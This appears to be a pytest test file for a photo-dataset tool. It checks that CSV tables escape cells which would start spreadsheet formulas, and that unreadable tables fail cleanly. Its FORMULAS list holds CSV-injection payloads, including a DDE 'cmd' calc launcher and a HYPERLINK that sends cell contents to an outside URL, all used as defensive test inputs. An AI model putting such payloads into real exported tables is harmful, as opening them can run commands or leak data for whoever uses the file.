"""Tables from strangers: no cell starts a formula in a spreadsheet, and what cannot be read ends in one line."""

import csv
import io
import itertools
import os
import re
import shutil
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest
from folders import drop_privileges, photo, run_forked, write_folder
from hypothesis import given
from hypothesis import strategies as st
from process import QUICK, roadclear

from roadclear.cli.console import print_csv_row
from roadclear.collect.records import SourceRecord, append_source, read_sources, write_sources
from roadclear.curation.apply import apply_decisions, undo
from roadclear.curation.cases import Case, Entry, TriageReason
from roadclear.curation.clean import clean, restore
from roadclear.curation.decisions import read_decisions
from roadclear.curation.journal import Move, read_journal, write_journal
from roadclear.curation.rules import CleanRules
from roadclear.curation.triage import triage_table
from roadclear.data.dataset import LabelledPhoto, load_folder, with_split
from roadclear.errors import DatasetError
from roadclear.features.cache import open_cache
from roadclear.utils.tables import csv_lines, harmless, read_records, read_rows

FORMULAS = [
    '=HYPERLINK("https://example.org?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "-a.jpg",
    "--",
]
OTHERS = ["a=b", "'quoted'", "it's", "''", "", " a", "\u2212 1", "日本"]
NUMBERS = ["-1", "+0.5", "-1.5e-07", "-inf", "nan", ".5"]
STARTS = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")


def cells(table: bytes) -> list[list[str]]:
    """What a spreadsheet program finds in the cells."""
    text = table.decode("utf-8-sig", errors="surrogateescape")
    return list(csv.reader(io.StringIO(text, newline="")))


def is_harmless(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return not STARTS.match(cell)
    return True


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_comes_back(tmp_path: Path, text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert harmless(f"'{text}") == f"''{text}"
    (tmp_path / "table.csv").write_bytes(csv_lines([["file"], [text], [f"'{text}"]]))
    assert all(is_harmless(cell) for row in cells((tmp_path / "table.csv").read_bytes()) for cell in row)
    assert read_rows(tmp_path / "table.csv") == [["file"], [text], [f"'{text}"]]
    assert [row["file"] for row in read_records(tmp_path / "table.csv")[1]] == [text, f"'{text}"]


@pytest.mark.parametrize("text", [*OTHERS, *NUMBERS])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_numbers_stay_numbers() -> None:
    assert csv_lines([(-0.5, -3, None, float("-inf"))]) == b"-0.5,-3,,-inf\r\n"


@given(st.text(st.sampled_from("'=+-@\t\r\n 1a\uff1d")))
def test_any_text_is_harmless_and_comes_back(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    path = tmp_path_factory.mktemp("table") / "table.csv"
    path.write_bytes(csv_lines([["x", text]]))
    ((_, found),) = cells(path.read_bytes())
    assert is_harmless(found)
    assert read_rows(path) == [["x", text]]


@pytest.mark.parametrize("name", [text for text in FORMULAS if "/" not in text])
class TestOurTables:
    """Names and titles that start a formula, in every table that a person may open."""

    def test_tables_of_earlier_versions_are_read(self, tmp_path: Path, name: str) -> None:
        root = write_folder(tmp_path / "photos", {f"{name}/a.png": photo(1), "empty/b.png": photo(2)})
        (root / "crossing").rmdir()
        text = io.StringIO(newline="")
        csv.writer(text).writerows(
            [["file", "scene", "split"], [f"{name}/a.png", name, "train"], ["empty/b.png", "", "test"]]
        )
        (root / "manifest.csv").write_bytes(text.getvalue().encode())
        if not name.isprintable():
            pytest.skip("no name for a label")
        dataset = with_split(load_folder(root), root / "manifest.csv")
        assert {(photo.file, photo.scene, photo.split) for photo in dataset.photos} == {
            (f"{name}/a.png", name, "train"),
            ("empty/b.png", None, "test"),
        }

    def test_the_journal(self, tmp_path: Path, name: str) -> None:
        moves = [Move("now", "blank", name, name, f"{name}/a", f".quarantine/blank/{name}/a", "", name)]
        write_journal(tmp_path, moves)
        assert all(is_harmless(cell) for row in cells((tmp_path / "cleaning.csv").read_bytes()) for cell in row)
        assert read_journal(tmp_path) == moves

    def test_the_sources(self, tmp_path: Path, name: str) -> None:
        line = " ".join(name.split())
        record = SourceRecord(*[line] * 16, "2026-01-01T00:00:00+00:00")
        write_sources(tmp_path, [record])
        append_source(tmp_path, record)
        assert all(is_harmless(cell) for row in cells((tmp_path / "sources.csv").read_bytes()) for cell in row)
        assert read_sources(tmp_path) == [record, record]

    def test_triage_and_its_decisions(self, tmp_path: Path, name: str) -> None:
        if not name.isprintable():
            pytest.skip("no name for a label")
        labelled = LabelledPhoto(tmp_path / name, f"{name}/a.png", name)
        entry = Entry(1, TriageReason.UNSURE, labelled, "0" * 64, name, 0.5, name)
        table = triage_table([Case(TriageReason.UNSURE, (entry,))])
        assert all(is_harmless(cell) for row in cells(table) for cell in row)
        (tmp_path / "triage.csv").write_bytes(table.replace(b",,", b",set aside,"))
        assert [decision.file for decision in read_decisions(tmp_path / "triage.csv")] == [f"{name}/a.png"]

    def test_predictions_on_the_terminal(self, capfdbinary: pytest.CaptureFixture[bytes], name: str) -> None:
        print_csv_row([name, 0.5, -1.0])
        assert all(is_harmless(cell) for row in cells(capfdbinary.readouterr().out) for cell in row)

    def test_photos_are_moved_and_come_back(self, tmp_path: Path, name: str) -> None:
        if not name.isprintable():
            pytest.skip("no name for a label")
        root = write_folder(
            tmp_path / "photos", {f"{name}/a.png": photo(1), f"{name}/cut": b"", "empty/b.png": photo(2)}
        )
        (root / "crossing").rmdir()
        with open_cache(None) as cache:
            assert clean(root, CleanRules(look_alikes=False), cache).left == ()
        assert restore(root).restored == 1
        assert (root / name / "cut").exists()


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return write_folder(tmp_path / "photos", {"crossing/a.png": photo(1), "empty/b.png": photo(2)})


def open_to_all(path: Path) -> None:
    above = itertools.takewhile(lambda folder: folder != Path(tempfile.gettempdir()), path.parents)
    for folder in (path, *above, *path.glob("*")):
        folder.chmod(0o755)


@pytest.mark.skipif(os.name != "posix", reason="takes permissions away")
@pytest.mark.parametrize("kind", ["no permission", "no table", "not UTF-8"])
@pytest.mark.parametrize("table", ["manifest.csv", "sources.csv", "cleaning.csv"])
def test_a_table_that_cannot_be_read(root: Path, table: str, kind: str) -> None:
    open_to_all(root)
    (root / table).write_bytes(
        {"no table": b'file,to\n"' + b"a\n" * 100_000, "not UTF-8": b"\xff\xfe\0"}.get(kind, b"file\n")
    )
    if kind == "no permission":
        (root / table).chmod(0)

    def load() -> None:
        drop_privileges()
        load_folder(root)

    _, said = run_forked(load)
    assert said.startswith("DatasetError: ")
    assert str(root / table) in said


@pytest.mark.skipif(os.name != "posix", reason="makes pipes")
@pytest.mark.parametrize(
    ("table", "read"),
    [
        ("cleaning.csv", restore),
        ("cleaning.csv", undo),
        ("sources.csv", read_sources),
        ("sources.csv", load_folder),
        ("manifest.csv", load_folder),
    ],
)
def test_a_table_that_is_a_pipe_is_not_waited_for(root: Path, table: str, read: Callable[[Path], object]) -> None:
    os.mkfifo(root / table)
    if read is load_folder:
        read(root)
    else:
        with pytest.raises(DatasetError, match=table):
            read(root)


@pytest.mark.skipif(os.name != "posix", reason="takes permissions away")
@pytest.mark.parametrize("folder", ["", "crossing"])
def test_a_folder_that_cannot_be_listed(root: Path, folder: str) -> None:
    open_to_all(root)
    (root / folder).chmod(0o300)

    def load() -> None:
        drop_privileges()
        load_folder(root)

    _, said = run_forked(load)
    (root / folder).chmod(0o755)
    assert re.match("DatasetError: expected a folder that can be listed, found none at '.*'", said)


@pytest.mark.parametrize("text", ["", "file\n", "a;b\n", '"', "file,sha256,decision\n1,2\n", "\0,\0\n"])
def test_decisions_that_are_none_move_nothing(root: Path, text: str) -> None:
    (root.parent / "decisions.csv").write_text(text)
    with pytest.raises(DatasetError, match="nothing was moved"):
        apply_decisions(root, root.parent / "decisions.csv")


@pytest.mark.slow
def test_splitting_and_training_leave_out_the_same_photos(drawn_photos: Path, tmp_path: Path) -> None:
    """A photo that cannot be read is in no split table, and `train --split` does not ask for it."""
    root = tmp_path / "photos"
    shutil.copytree(drawn_photos, root)
    (root / "crossing" / "cut.jpg").write_bytes(b"cut")
    (root / "empty" / "none.jpg").touch()
    (root / "empty" / "link.jpg").symlink_to("link.jpg")
    made = roadclear("split", root, "--out", tmp_path / "split.csv")
    assert (made.code, "3 photos could not be used" in made.err) == (3, True)
    trained = roadclear("train", root, "--split", tmp_path / "split.csv", "--out", tmp_path / "run", *QUICK)
    assert (trained.code, "3 photos could not be used" in trained.err) == (3, True)
    ours, theirs = (
        {(row["file"], row["split"]) for row in read_records(table)[1]}
        for table in (tmp_path / "split.csv", tmp_path / "run" / "splits.csv")
    )
    assert ours == theirs
    assert len(ours) == 48
    shutil.copy(root / "crossing" / sorted(os.listdir(root / "crossing"))[0], root / "crossing" / "cut.jpg")  # noqa: PTH208
    refused = roadclear("train", root, "--split", tmp_path / "split.csv", "--out", tmp_path / "again", *QUICK)
    assert refused.code == 1
    assert "the first being 'crossing/cut.jpg': make it anew with roadclear split" in refused.error()
